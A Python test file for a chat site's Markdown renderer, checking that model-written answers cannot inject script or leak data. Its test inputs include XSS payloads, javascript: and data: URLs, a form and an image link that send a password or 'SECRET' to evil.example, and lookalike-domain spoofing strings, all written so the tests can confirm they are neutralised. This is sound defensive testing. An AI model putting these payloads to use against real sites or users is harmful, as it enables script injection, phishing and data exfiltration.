"""The HTML of an answer: readable, and safe whatever a model writes."""

import re

import pytest

from chatsite.chat.rendering import render
from chatsite.chat.rendering.markdown import INLINE_MAX_CHARACTERS


def test_it_renders_commonmark() -> None:
    assert render("Some *words* and `code`.") == "<p>Some <em>words</em> and <code>code</code>.</p>\n"


def test_headings_go_below_those_of_the_page() -> None:
    assert render("# One\n\n## Two") == "<h3>One</h3>\n<h4>Two</h4>\n"


def test_it_renders_tables_with_alignment_but_without_inline_styles() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<td class="right">2</td>' in html
    assert "style" not in html
    assert html.startswith('<div class="table" tabindex="0"><table dir="auto">')


def test_it_renders_strikethrough_and_task_lists() -> None:
    html = render("~~no~~\n\n- [x] bought\n- [ ] cooked")
    assert "<s>no</s>" in html
    assert '<input type="checkbox" disabled="" aria-label="done" checked=""> bought' in html
    assert '<input type="checkbox" disabled="" aria-label="to do"> cooked' in html


def test_code_says_its_language_and_is_highlighted_by_class() -> None:
    html = render("```python\ndef f(): return 1\n```")
    assert '<div class="code-bar"><span>python</span></div>' in html
    assert '<span class="k">def</span>' in html


@pytest.mark.parametrize("info", ["", "nosuchlanguage", "<script>", '"><img onerror=alert(1)>', "x" * 1000])
def test_code_in_any_language_is_shown(info: str) -> None:
    html = render(f"```{info}\na < b\n```")
    assert "a &lt; b" in html
    assert "<script" not in html
    assert "<img" not in html
    assert len(html) < 400


def test_links_open_elsewhere_and_vouch_for_nothing() -> None:
    assert render("[x](https://a.example/b)") == (
        '<p><a href="https://a.example/b" target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


def test_bare_addresses_become_links() -> None:
    assert '<a href="https://a.example/b"' in render("See https://a.example/b.")


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>*{background:url(//evil.example)}</style>",
        "<a href='https://good.example' onclick=alert(1)>x</a>",
        "<b style='background:url(//evil.example)'>x</b>",
        "<form action=//evil.example><input name=password></form>",
        "a <!-- comment --> b",
    ],
)
def test_raw_html_is_shown_as_text(attack: str) -> None:
    html = render(attack)
    assert set(re.findall(r"<(\w+)", html)) <= {"p"}
    assert "&lt;" in html


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "/admin/auth/user/1/delete/",
        "//evil.example",
        "?delete=1",
        "\\\\evil.example",
    ],
)
@pytest.mark.parametrize("markdown", ["[x]({})", "[x](<{}>)", "<{}>", "[x][a]\n\n[a]: {}", "![x]({})", "[![i](i)]({})"])
def test_links_lead_to_the_web_or_nowhere(address: str, markdown: str) -> None:
    html = render(markdown.format(address))
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in re.findall(r'href="([^"]*)', html))


@pytest.mark.parametrize(
    "markdown",
    [
        "![alt](https://evil.example/?d=SECRET)",
        "![alt][b]\n\n[b]: https://evil.example/?d=SECRET",
        "![alt](https://evil.example/?d=SECRET 'title')",
    ],
)
def test_pictures_become_links_so_that_nothing_is_requested(markdown: str) -> None:
    html = render(markdown)
    assert "<img" not in html
    assert '<a href="https://evil.example/?d=SECRET" class="picture"' in html
    assert ">alt</a>" in html


def test_a_picture_inside_a_link_leaves_one_link() -> None:
    html = render("[![alt](https://a.example/i.png)](https://b.example/)")
    assert re.findall(r'href="([^"]*)', html) == ["https://b.example/"]
    assert ">alt</a>" in html


@pytest.mark.parametrize(
    "markdown", ['```mermaid\nclick A "javascript:alert(1)"\n```', "$<img src=a onerror=alert(1)>$"]
)
def test_diagrams_and_formulas_are_text(markdown: str) -> None:
    assert "<img" not in render(markdown)
    assert "<a" not in render(markdown)


@pytest.mark.parametrize(
    ("label", "shown"),
    [
        ("https://bank.example", True),
        ("bank.example/login", True),
        ("evil.example.bank.example", True),
        ("\u202emoc.live", True),
        ("ba\u200bnk", True),
        ("our terms", False),
        ("evil.example", False),
        ("https://evil.example/path", False),
        ("www.evil.example", False),
    ],
)
def test_a_link_whose_text_names_another_place_shows_where_it_leads(label: str, shown: bool) -> None:
    assert (" (evil.example)" in render(f"[{label}](https://evil.example/path)")) == shown


def test_a_picture_whose_text_names_another_place_does_so_too() -> None:
    assert " (evil.example)" in render("![bank.example](https://evil.example/)")


def test_a_host_in_lookalike_letters_is_shown_as_it_is_resolved() -> None:
    assert "(xn--" in render("[раураl.com](https://раураl.com/)")


def test_nothing_that_a_model_writes_gets_our_classes_or_ids() -> None:
    html = render('<div class="trouble" id="composer">x</div>\n\n[x](https://a.example "t"){.button #send}')
    assert not re.search(r"<[^>]* (class|id)=", html)


def test_a_paragraph_beyond_the_limit_is_shown_as_it_is() -> None:
    # The parser's time grows with the square of some texts.
    text = "**a** " * INLINE_MAX_CHARACTERS
    assert "<strong>" not in render(text)
    assert "<strong>" in render(text[:INLINE_MAX_CHARACTERS])


@pytest.mark.parametrize(
    "text", ["", " ", "\n\n", "\x00", "\ud800".encode("utf-8", "replace").decode(), "👩‍👩‍👧", "\u202e", "`" * 999]
)
def test_odd_texts_are_no_trouble(text: str) -> None:
    render(text)
